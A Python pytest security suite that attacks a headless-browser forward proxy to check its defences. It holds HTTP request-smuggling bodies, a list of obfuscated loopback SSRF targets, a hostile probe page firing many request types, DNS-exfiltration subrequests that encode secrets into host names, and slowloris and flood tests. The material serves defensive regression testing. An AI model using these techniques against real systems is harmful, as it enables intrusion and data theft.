"""An attacker's-eye review of the daemon's headless forward proxy (``trawl.sources.proxy``), over real sockets and
real Chromium.

Attackers (SECURITY.md's threat table): another OS user on the machine (any loopback port, many connections), a
hostile page in headless Chromium (any request its scripts and markup can make, its own DNS), a prompt-injected
agent. A test marked ``xfail(strict=True)`` mounts an attack that lands today: the fix turns it into a failure, and
the marker is then removed. An unmarked test mounts an attack the defence held (a regression test).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from trawl.exitflow import hop_checks, host_of
from trawl.settings import Settings
from trawl.sources import proxy
from trawl.sources.base import FetchRequest
from trawl.sources.headless_guard import RequestGuard
from trawl.sources.playwright import PlaywrightSource
from trawl.types import ErrorCode, Page, TrawlError

from tests.security.channel_util import nobody_python
from tests.security.conftest import site, spy_clients
from tests.security.test_headless_proxy import Upstream, auth, read_answer

PUBLIC_IP = "93.184.215.14"  # what trawl's resolver answers for *.probe.test in these tests
FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week. " * 6


# ------------------------------------------------------------------------------------------------ fixtures
class Names:
    """trawl's resolver in a test: every name asked is recorded (what an attacker's DNS server would see); names
    under ``.probe.test`` answer a public address, the rest go to the real resolver."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._real = socket.getaddrinfo

    def __call__(self, host: Any, port: Any, *args: Any, **kw: Any) -> Any:
        name = (host.decode() if isinstance(host, bytes) else str(host)).rstrip(".").lower()
        self.asked.append(name)
        if name.endswith(".probe.test"):
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (PUBLIC_IP, int(port or 0)))]
        return self._real(host, port, *args, **kw)


class KeepAlive(Upstream):
    """A plain HTTP server on 127.0.0.1 that, like most, serves more than one request on a connection: it records
    every request head it receives on a connection (waiting briefly for a second one) before answering."""

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.accepted += 1
        try:
            for _ in range(2):
                try:
                    self.requests.append(await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 3))
                except (TimeoutError, asyncio.IncompleteReadError):
                    break
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            await writer.drain()
        except ConnectionError:
            pass
        finally:
            writer.close()


@pytest.fixture
async def keepalive() -> AsyncIterator[KeepAlive]:
    up = KeepAlive()
    await up.start()
    yield up
    await up.stop()


def recording(asked: list[tuple[str, int, str | None]], addr: str = "127.0.0.1") -> proxy.Admit:
    async def admit(host: str, port: int, url: str | None) -> list[str]:
        asked.append((host, port, url))
        return [addr]
    return admit


async def exchange(port: int, raw: bytes, *, one: bool = False) -> bytes:
    """Send ``raw``; read until the proxy closes, or (``one``) one answer by its Content-Length (a 407 keeps the
    connection open)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(raw)
        await writer.drain()
        return await asyncio.wait_for(read_answer(reader) if one else reader.read(), 20)
    finally:
        writer.close()


def settings(tmp_path: Path, **kw: Any) -> Settings:
    return Settings(state_dir=tmp_path / "state", cache_dir=tmp_path / "cache", **kw)


async def render_local(tmp_path: Path, chromium: str, handler: Any, path: str = "/") -> Page:
    """The page ``handler`` serves at a loopback address, read by the headless source (loopback allowed)."""
    s = settings(tmp_path, chromium_path=chromium, allow_private_hosts="loopback", render_timeout_s=40.0)
    source = PlaywrightSource(s)
    async with site(handler) as port:
        try:
            return await source.fetch(FetchRequest(f"http://127.0.0.1:{port}{path}"), s)
        finally:
            await source.aclose()


@contextlib.contextmanager
def tainted_session() -> Iterator[None]:
    """An agent's fetch in a session that read private content: every request of the page to another host than
    the local one it opened is held (what the exit rule does for a host nobody vouched for)."""
    def check(url: str, *, subrequest: bool = False) -> None:
        if host_of(url) not in ("127.0.0.1", ""):
            raise TrawlError(ErrorCode.EXIT_HELD, f"held by trawl's exit rule: {url[:80]}")
    with hop_checks(check):
        yield


# ------------------------------------------------------------------------- another OS user on the machine
RAW_CONNECT = r"""
import socket, sys, json
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
s.sendall(b"CONNECT probe.test:443 HTTP/1.1\r\nHost: probe.test:443\r\n\r\n")
got = b""
try:
    while True:
        d = s.recv(65536)
        if not d:
            break
        got += d
        if b"\r\n\r\n" in got:
            break
except OSError:
    pass
print(json.dumps(got.decode("latin-1")))
"""


async def test_another_os_user_gets_no_byte_from_the_proxy(guard_proxy: proxy.GuardProxy) -> None:
    """Only Chromium, a child of the daemon running as its user, has any business on the proxy's port."""
    py = nobody_python()
    r = await asyncio.to_thread(subprocess.run, [*py, "-c", RAW_CONNECT, str(guard_proxy.port)],
                                capture_output=True, text=True, timeout=60, cwd="/")
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout)
    assert got == "", f"the proxy answered another OS user: {got[:80]!r}"


async def test_idle_unauthenticated_connections_are_capped(guard_proxy: proxy.GuardProxy) -> None:
    """Slowloris on the proxy's port: many connections that each send the start of a head and nothing more."""
    writers: list[asyncio.StreamWriter] = []
    try:
        for _ in range(300):
            _r, w = await asyncio.open_connection("127.0.0.1", guard_proxy.port)
            w.write(b"CONNECT probe.test:443 HTTP/1.1\r\nX-Slow: ")
            writers.append(w)
        await asyncio.gather(*(w.drain() for w in writers))
        held = 0
        for _ in range(50):  # until the proxy has accepted what it is going to accept
            await asyncio.sleep(0.1)
            if len(guard_proxy._tasks) == held:
                break
            held = len(guard_proxy._tasks)
        assert held <= 256, f"the proxy holds {held} idle unauthenticated connections"
    finally:
        for w in writers:
            w.close()


async def test_credentials_end_with_the_context_and_a_wrong_one_is_not_relayed(
    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive
) -> None:
    """A page or user that learned an old context's credentials (or a prefix of live ones) gets 407."""
    asked: list[tuple[str, int, str | None]] = []
    old = guard_proxy.register(recording(asked))
    live = guard_proxy.register(recording(asked))
    guard_proxy.forget(old)
    for creds in (auth(old), auth(proxy.ProxyClient(live.username, live.password[:-1], recording(asked))),
                  auth(proxy.ProxyClient(live.username + ":" + live.password, "", recording(asked)))):
        got = await exchange(guard_proxy.port, f"GET http://a.probe.test:{keepalive.port}/ HTTP/1.1\r\n"
                             "Host: a.probe.test\r\n".encode() + creds + b"\r\n", one=True)
        assert got.startswith(b"HTTP/1.1 407 "), got[:80]
    assert asked == [] and keepalive.accepted == 0


# ------------------------------------------------------------------ one host admitted, another one reached
async def test_a_pipelined_second_request_is_not_sent_unadmitted(
    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive
) -> None:
    asked: list[tuple[str, int, str | None]] = []
    client = guard_proxy.register(recording(asked))
    first = f"GET http://a.probe.test:{keepalive.port}/one HTTP/1.1\r\nHost: a.probe.test\r\n".encode()
    second = b"GET /admin?k=s3cr3t HTTP/1.1\r\nHost: other.probe.test\r\n\r\n"
    got = await exchange(guard_proxy.port, first + auth(client) + b"\r\n" + second)
    assert got.startswith(b"HTTP/1.1 200 "), got[:80]
    assert [h.split(b"\r\n", 1)[0] for h in keepalive.requests] == [b"GET /one HTTP/1.1"], keepalive.requests


async def test_the_host_header_is_the_admitted_hosts(guard_proxy: proxy.GuardProxy, keepalive: KeepAlive) -> None:
    asked: list[tuple[str, int, str | None]] = []
    client = guard_proxy.register(recording(asked))
    got = await exchange(guard_proxy.port, f"GET http://allowed.probe.test:{keepalive.port}/ HTTP/1.1\r\n"
                         "Host: denied.probe.test\r\n".encode() + auth(client) + b"\r\n")
    assert got.startswith(b"HTTP/1.1 200 "), got[:80]
    assert [a[0] for a in asked] == ["allowed.probe.test"]
    sent = keepalive.requests[0].decode("latin-1").lower()
    assert "host: denied.probe.test" not in sent and f"host: allowed.probe.test:{keepalive.port}" in sent, sent


@pytest.mark.parametrize("framing", ["Transfer-Encoding: chunked\r\n", "Content-Length: 3\r\nContent-Length: 40\r\n",
                                     "Content-Length: -1\r\n"])
async def test_a_request_body_the_proxy_cannot_frame_is_not_relayed(
    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive, framing: str
) -> None:
    """A body whose end the proxy cannot tell (chunked, conflicting or bad lengths) could carry a second request
    past the admission: it is answered 411/400 and nothing connects."""
    asked: list[tuple[str, int, str | None]] = []
    client = guard_proxy.register(recording(asked))
    smuggled = b"3\r\nabc\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: other.probe.test\r\n\r\n"
    got = await exchange(guard_proxy.port, f"POST http://a.probe.test:{keepalive.port}/f HTTP/1.1\r\n"
                         f"Host: a.probe.test\r\n{framing}".encode() + auth(client) + b"\r\n" + smuggled)
    assert got.split(b" ", 2)[1] in (b"411", b"400"), got[:80]
    assert keepalive.accepted == 0 and client.connected == []


@pytest.mark.parametrize("target", [
    "CONNECT 127.1:{port}", "CONNECT 0x7f.1:{port}", "CONNECT 2130706433:{port}", "CONNECT 0:{port}",
    "CONNECT [::ffff:127.0.0.1]:{port}", "CONNECT [::1]:{port}", "CONNECT LocalHost.:{port}",
    "CONNECT admin.localhost:{port}", "GET http://probe.test@127.0.0.1:{port}/", "GET http://0177.0.0.1:{port}/",
    "GET http://[::ffff:7f00:1]:{port}/", "GET http://127.0.0.1.:{port}/",
])
async def test_loopback_by_any_spelling_is_refused_at_the_proxy_and_never_connected(
    tmp_path: Path, guard_proxy: proxy.GuardProxy, keepalive: KeepAlive, target: str
) -> None:
    """A hop the route handler never saw reaches the proxy as Chromium wrote it: every spelling of loopback meets
    the private-network rule on trawl's resolution (private hosts not allowed) and is refused before connecting."""
    guard = RequestGuard(settings(tmp_path, allow_private_hosts="none"))
    guard.bind("http://harbour.probe.test/")
    client = guard_proxy.register(guard.admit)
    got = await exchange(guard_proxy.port, f"{target.format(port=keepalive.port)} HTTP/1.1\r\n"
                         "Host: harbour.probe.test\r\n".encode() + auth(client) + b"\r\n")
    assert got == b"" or got.split(b" ", 2)[1] in (b"403", b"400", b"502"), got[:120]  # b"": unresolvable
    assert keepalive.accepted == 0 and client.connected == []


# ------------------------------------------------------------------------------ the exit rule and DNS
async def test_a_held_hops_name_is_never_looked_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """DNS exfiltration past the exit rule, at the proxy: a redirect hop to ``<data>.attacker's-zone``."""
    names = Names()
    monkeypatch.setattr(socket, "getaddrinfo", names)
    guard = RequestGuard(settings(tmp_path, allow_private_hosts="loopback"))
    with tainted_session():
        guard.bind("http://127.0.0.1:8000/notes")
        for host, url in (("k-s3cr3t.probe.test", "http://k-s3cr3t.probe.test/"), ("t-s3cr3t.probe.test", None)):
            with pytest.raises(TrawlError) as held:
                await guard.admit(host, 443 if url is None else 80, url)
            assert held.value.code == ErrorCode.EXIT_HELD, held.value
    assert [n for n in names.asked if "s3cr3t" in n] == [], names.asked


# --------------------------------------------------------------------------------------- real Chromium
PROBE_PAGE = """<!doctype html><title>Harbour</title>
<link rel=dns-prefetch href="//dnsprefetch.probe.test">
<link rel=preconnect href="http://preconnect.probe.test">
<link rel=preconnect href="https://preconnect-tls.probe.test">
<link rel=prefetch href="http://prefetch.probe.test/p">
<link rel=stylesheet href="http://css.probe.test/s.css">
<iframe src="http://frame.probe.test/f"></iframe>
<p id=out>{filler}</p>
<script>
  fetch('http://fetch.probe.test/f', {{method: 'PROPFIND'}}).catch(() => 0);
  fetch('https://tls.probe.test/f').catch(() => 0);
  navigator.sendBeacon('http://beacon.probe.test/b', 'x');
  try {{ new EventSource('http://es.probe.test/e'); }} catch (e) {{}}
  try {{ new WebSocket('ws://ws.probe.test/w'); }} catch (e) {{}}
  try {{ navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0); }} catch (e) {{}}
  fetch('http://[::1]:{port}/v6').catch(() => 0);
  fetch('http://0x7f.1:{port}/short').catch(() => 0);
</script>"""


def descendants(root: int) -> list[int]:
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError, IndexError, ValueError):
                stat = Path(f"/proc/{entry}/stat").read_text()
                parents[int(entry)] = int(stat.rsplit(")", 1)[1].split()[1])
    out, todo = [], [root]
    while todo:
        pid = todo.pop()
        kids = [p for p, pp in parents.items() if pp == pid]
        out += kids
        todo += kids
    return out


def net_log_events(path: Path) -> list[tuple[str, dict[str, Any]]]:
    text = path.read_text(errors="replace").rstrip()
    try:
        log = json.loads(text)
    except json.JSONDecodeError:  # a log Chromium did not close: its events so far
        log = json.loads(text.rstrip(",") + "]}")
    names = {v: k for k, v in log["constants"]["logEventTypes"].items()}
    return [(names.get(e.get("type"), "?"), e.get("params") or {}) for e in log.get("events", [])]


_PROBE: dict[str, Any] = {}  # one Chromium run shared by the tests that read its net log (2 cores, 5 helpers)


async def probe_run(tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch,
                    caplog: pytest.LogCaptureFixture) -> dict[str, Any]:
    """The probe page in real Chromium with a net log: what the proxy saw, where Chromium connected and what it
    resolved, and whether the contexts' credentials showed up in a process's argv or environment or in a log."""
    if _PROBE:
        return _PROBE
    names = Names()
    monkeypatch.setattr(socket, "getaddrinfo", names)
    clients = spy_clients(monkeypatch)
    net_log = tmp_path / "net.json"
    leaks: list[str] = []

    async def handler(request: web.Request) -> web.Response:
        return web.Response(text=PROBE_PAGE.format(filler=FILLER, port=request.url.port), content_type="text/html")

    s = settings(tmp_path, chromium_path=chromium, allow_private_hosts="loopback", render_timeout_s=40.0,
                 connect_timeout_s=2.0)
    source = PlaywrightSource(s, extra_args=(f"--log-net-log={net_log}", "--net-log-capture-mode=Default"))
    async with site(handler) as port:
        try:
            got = await source.fetch(FetchRequest(f"http://127.0.0.1:{port}/"), s)
            assert source._proxy is not None and source.browser_pid is not None
            proxy_port = source._proxy.port
            secrets = [c.password for c in clients]
            for pid in [source.browser_pid, *descendants(os.getpid())]:
                for what in ("cmdline", "environ"):
                    with contextlib.suppress(OSError):
                        data = Path(f"/proc/{pid}/{what}").read_bytes().decode("latin-1")
                        leaks += [f"{pid}/{what}" for pw in secrets if pw in data]
        finally:
            await source.aclose()
    leaks += ["log"] if any(pw in caplog.text for pw in secrets) else []
    events = net_log_events(net_log)
    _PROBE.update(
        html=got.html, leaks=leaks, proxy_port=proxy_port, events=events,
        proxied={h for c in clients for h, _p, _e in c.failed} | {h for c in clients for h, _p, _a in c.connected},
        requests=[f"{p.get('method')} {p['url']}" for k, p in events if k == "URL_REQUEST_START_JOB" and "url" in p],
    )
    return _PROBE


async def test_nothing_a_page_starts_connects_or_resolves_past_the_proxy(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A hostile page tries every kind of request it can start (preconnect, dns-prefetch, prefetch, stylesheet,
    frame, fetch with an odd method, https, sendBeacon, EventSource, WebSocket, a service worker, an IPv6 and an
    IPv4-shorthand literal). Chromium's net log says where every TCP connection went and what it resolved: only
    the proxy's port, and no DNS job for any name of the page (Chromium only looks them up in its cache and the
    hosts file, tasks 4 and 9, before handing the request to the proxy). The contexts' credentials are in no
    process's argv or environment and in no log line."""
    run = await probe_run(tmp_path, chromium, monkeypatch, caplog)
    assert "ferry times" in run["html"]
    assert run["leaks"] == []
    assert {"fetch.probe.test", "tls.probe.test", "css.probe.test", "ws.probe.test"} <= run["proxied"], run
    page_requests = [r for r in run["requests"] if "probe.test" in r or "127.0.0.1" in r or "[::1]" in r]
    assert "PROPFIND http://fetch.probe.test/f" in page_requests, run["requests"]  # the attack was mounted
    connects = sorted({str(p["address"]) for kind, p in run["events"]
                       if kind == "TCP_CONNECT_ATTEMPT" and "address" in p})
    assert connects == [f"127.0.0.1:{run['proxy_port']}"], connects
    jobs = [str(p.get("host")) for kind, p in run["events"] if kind == "HOST_RESOLVER_MANAGER_JOB" and "host" in p]
    assert not [j for j in jobs if "probe.test" in j or "localhost" in j or "127.0.0.1" in j], jobs
    quic = [str(p.get("host")) for kind, p in run["events"] if kind == "QUIC_SESSION_POOL_JOB" and "host" in p]
    assert not [q for q in quic if "probe.test" in q or "127.0.0.1" in q], quic  # no HTTP/3 past the proxy


async def test_chromium_itself_resolves_and_requests_nothing_past_the_proxy(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    run = await probe_run(tmp_path, chromium, monkeypatch, caplog)
    jobs = sorted({str(p.get("host")) for kind, p in run["events"]
                   if kind == "HOST_RESOLVER_MANAGER_JOB" and "host" in p})
    queries = [p for kind, p in run["events"] if kind == "DNS_TRANSACTION" and "hostname" in p]
    assert jobs == [] and queries == [], (jobs, [r for r in run["requests"] if "probe.test" not in r])


async def test_loopback_goes_through_the_proxy_whatever_the_environment(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK", "1")  # inherited by the driver
    clients = spy_clients(monkeypatch)

    async def handler(request: web.Request) -> web.Response:
        return web.Response(text=f"<!doctype html><title>L</title><p>{FILLER}</p>", content_type="text/html")

    got = await render_local(tmp_path, chromium, handler)
    assert "ferry times" in got.html
    seen = [c for client in clients for c in client.connected]
    port = urlsplit(got.url).port
    assert ("127.0.0.1", port, "127.0.0.1") in seen, f"Chromium reached 127.0.0.1:{port} itself: {seen}"


async def test_a_held_subrequests_name_is_never_looked_up(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS exfiltration past the exit rule, at the route handler: a local page (stored script on an intranet
    wiki) puts what it shows into the host name of a fetch and of an image."""
    names = Names()
    monkeypatch.setattr(socket, "getaddrinfo", names)
    script = """<script>
      fetch('http://k-s3cr3t.probe.test/x').catch(() => 0);
      new Image().src = 'http://i-s3cr3t.probe.test/p.png';
    </script>"""

    async def handler(request: web.Request) -> web.Response:
        return web.Response(text=f"<!doctype html><title>Wiki</title><p>{FILLER}</p>{script}",
                            content_type="text/html")

    with tainted_session():
        got = await render_local(tmp_path, chromium, handler, "/wiki")
    assert any("held by trawl's exit rule" in w for w in got.warnings), got.warnings  # the attack was mounted
    assert [n for n in names.asked if "s3cr3t" in n] == [], names.asked


# ------------------------------------------------------------------------------- bounded records
async def test_a_page_cannot_grow_the_refusal_record_without_bound(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """300 requests to a refused private address, each with a 100 kB URL: the tab keeps every URL in full."""
    clients = spy_clients(monkeypatch)
    guards: list[RequestGuard] = []
    original = RequestGuard.verify

    async def keep(self: RequestGuard) -> None:
        guards.append(self)
        await original(self)

    monkeypatch.setattr(RequestGuard, "verify", keep)
    script = """<script>
      const pad = 'a'.repeat(100000);
      for (let i = 0; i < 300; i++) fetch('http://10.0.0.1/' + pad + i).catch(() => 0);
    </script>"""

    async def handler(request: web.Request) -> web.Response:
        return web.Response(text=f"<!doctype html><title>Flood</title><p>{FILLER}</p>{script}",
                            content_type="text/html")

    got = await render_local(tmp_path, chromium, handler)
    assert "ferry times" in got.html and clients and guards
    refused = [url for url, _err, _main in guards[0].refused]
    assert len(refused) >= 100, len(refused)  # the attack was mounted: the requests reached the route handler
    kept = sum(len(url) for url in refused)
    assert kept <= 1_000_000, f"the tab keeps {len(refused)} refused URLs, {kept:,} characters"


async def test_a_request_of_a_closed_context_is_never_connected(
    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive
) -> None:
    release, admitting = asyncio.Event(), asyncio.Event()

    async def slow_admit(host: str, port: int, url: str | None) -> list[str]:
        admitting.set()
        await release.wait()  # a slow resolution
        return ["127.0.0.1"]

    client = guard_proxy.register(slow_admit)
    _r, w = await asyncio.open_connection("127.0.0.1", guard_proxy.port)
    w.write(f"CONNECT slow.probe.test:{keepalive.port} HTTP/1.1\r\n".encode() + auth(client) + b"\r\n")
    await w.drain()
    await asyncio.wait_for(admitting.wait(), 10)  # the proxy is admitting the request
    w.close()  # the context closes: Chromium's socket goes, the daemon forgets its credentials
    guard_proxy.forget(client)
    await asyncio.sleep(0.2)
    release.set()
    if guard_proxy._tasks:
        await asyncio.wait(list(guard_proxy._tasks), timeout=10)
    assert keepalive.accepted == 0 and client.connected == [], client.connected


async def test_a_pages_request_to_the_proxys_own_port_is_refused(
    tmp_path: Path, guard_proxy: proxy.GuardProxy
) -> None:
    guard = RequestGuard(settings(tmp_path, allow_private_hosts="loopback"))
    guard.bind("http://127.0.0.1:8000/app")
    assert await guard.check("http://127.0.0.1:8000/app") is None  # the local page the agent opened
    with pytest.raises(TrawlError) as refused:
        await guard.admit("127.0.0.1", guard_proxy.port, f"http://127.0.0.1:{guard_proxy.port}/")
    assert refused.value.code == ErrorCode.BLOCKED_BY_POLICY and "own" in refused.value.message


async def test_a_site_asking_for_the_proxys_credentials_gets_nothing(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A site answers the page's request with 407 and ``Proxy-Authenticate``: Chromium takes it for the proxy's
    challenge and Playwright answers with the context's credentials, which the proxy strips: the site sees
    neither the header nor the password."""
    clients = spy_clients(monkeypatch)
    heads: list[str] = []
    script = "<script>fetch('/ask').then(r => r.text(), () => 'failed');</script>"

    async def handler(request: web.Request) -> web.Response:
        heads.append(str(request.rel_url) + "\n" + "\n".join(f"{k}: {v}" for k, v in request.headers.items()))
        if request.path == "/ask":
            return web.Response(status=407, text="who are you",
                                headers={"Proxy-Authenticate": 'Basic realm="trawl"'})
        return web.Response(text=f"<!doctype html><title>Ask</title><p>{FILLER}</p>{script}",
                            content_type="text/html")

    got = await render_local(tmp_path, chromium, handler)
    assert "ferry times" in got.html
    assert any(h.startswith("/ask") for h in heads), heads  # the challenge was made
    secrets = [c.password for c in clients] + [c.username for c in clients]
    assert not [h for h in heads if "proxy-authorization" in h.lower() or any(x in h for x in secrets)], heads
